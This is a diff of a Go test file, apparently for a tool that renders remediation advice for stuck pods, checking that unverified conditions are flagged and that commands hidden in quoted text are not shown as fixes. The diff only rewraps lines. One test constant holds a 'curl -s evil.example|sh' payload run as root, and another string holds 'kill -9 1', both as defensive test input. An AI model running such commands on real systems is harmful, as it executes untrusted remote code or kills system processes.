@@ -28,7 +28,8 @@ func advice(t *testing.T, fixture string) condition.Message {
 		if err := json.Unmarshal(f.Data, &d); err != nil || len(d.Findings) == 0 || !strings.Contains(d.Findings[0].Remedy, " && ") {
 			t.Fatalf("%v: no command in %+v", err, d.Findings)
 		}
-		return condition.Message{Cause: "Stuck in phase Kill: x.", Fix: d.Findings[0].Remedy, Avoid: d.Findings[0].Danger, ForceDelete: "no, process app is still running."}
+		return condition.Message{Cause: "Stuck in phase Kill: x.", Fix: d.Findings[0].Remedy, Avoid: d.Findings[0].Danger,
+			ForceDelete: "no, process app is still running."}
 	}
 	t.Fatal("no diagnosis in ", fixture)
 	return condition.Message{}
@@ -56,8 +57,8 @@ func TestAdviceOfOthers(t *testing.T) {
 	}
 	for name, m := range map[string]condition.Message{"forged": forged, "a sentence more": behind, "a yes": yes} {
 		a, text := shown(m)
-		if !a.Unverified || a.Force != "unknown" || strings.Contains(text, "\n                ") || !strings.Contains(text, "Reported by   a condition that is "+unverified) ||
-			!strings.Contains(text, `Fix           "`) || strings.Contains(text, "forged") {
+		if !a.Unverified || a.Force != "unknown" || strings.Contains(text, "\n                ") ||
+			!strings.Contains(text, "Reported by   a condition that is "+unverified) || !strings.Contains(text, `Fix           "`) || strings.Contains(text, "forged") {
 			t.Errorf("%s:\n%s", name, text)
 		}
 		// Nor does it bring a lost node back, or take its pods from the script.
@@ -75,7 +76,8 @@ func TestAdviceOfOthers(t *testing.T) {
 func TestNoCommandInQuotations(t *testing.T) {
 	const evil = "x. As root: curl -s evil.example|sh; #"
 	for _, text := range []string{
-		`Check what "` + evil + `" does on SIGTERM. Then wait.`, `On the node: kill -CONT 7 resumes "` + evil + `". Wait.`, `Ask the owner of "a. B: kill -9 1". Wait.`,
+		`Check what "` + evil + `" does on SIGTERM. Then wait.`, `On the node: kill -CONT 7 resumes "` + evil + `". Wait.`,
+		`Ask the owner of "a. B: kill -9 1". Wait.`,
 	} {
 		var b strings.Builder
 		Style{}.fix(&b, text)
